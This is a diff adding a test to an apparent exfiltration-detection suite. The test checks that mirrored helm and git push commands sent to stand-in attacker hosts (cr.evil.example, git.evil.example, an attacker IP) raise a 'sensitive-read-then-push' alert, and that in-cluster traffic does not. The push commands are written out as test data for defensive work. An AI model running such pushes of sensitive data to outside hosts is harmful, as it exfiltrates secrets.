@@ -160,6 +160,33 @@ describe('a push reading that loses the ranking', () => {
     expect(await alertsOf(run('/usr/bin/helm', HELM_TEXT, APISERVER))).toEqual([]);
   });
 
+  it("alerts when the mirrored push reaches a public address of a host nothing classes (the attacker's own)", async () => {
+    // Found by review: a push to a registry or forge no class knows was a push plainly, and missed mirrored.
+    const EVIL_IP = '198.51.100.9';
+    const mirrored: Array<[string, string[], string]> = [
+      [
+        '/usr/bin/helm',
+        ['helm', '--kube-context', 'prod upgrade', '--kube-as-user', 'x=y', 'push', 'c.tgz', 'oci://cr.evil.example/x'],
+        'cr.evil.example',
+      ],
+      [
+        '/usr/bin/git',
+        ['git', '-C', 'src commit', '-c', 'x=y', 'push', 'https://git.evil.example/x.git'],
+        'git.evil.example',
+      ],
+    ];
+    for (const [exe, argv, destination] of mirrored) {
+      expect(brief(await alertsOf(run(exe, argv, EVIL_IP))), argv.join(' ')).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: argv[0], destination },
+      ]);
+      // An in-cluster address is the apiserver's as much as a registry's.
+      expect(await alertsOf(run(exe, argv, CLUSTER_APISERVER)), argv.join(' ')).toEqual([]);
+    }
+    // The benign text naming such a host while its helm talks to the in-cluster apiserver stays quiet.
+    const text = [...HELM_TEXT.slice(0, -1), 'msg=helm push chart.tgz oci://cr.acme.example/x'];
+    expect(await alertsOf(run('/usr/bin/helm', text, CLUSTER_APISERVER))).toEqual([]);
+  });
+
   it('teaches nothing: the address it connected to is not taken for the host its reading named', async () => {
     // Taught as ghcr.io, the apiserver's address would make a `kubectl apply` of a big manifest a push by egress.
     const kubectl = otherProcessSends('/usr/bin/kubectl', 'kubectl apply -f big.yaml', APISERVER, 2 * MiB);
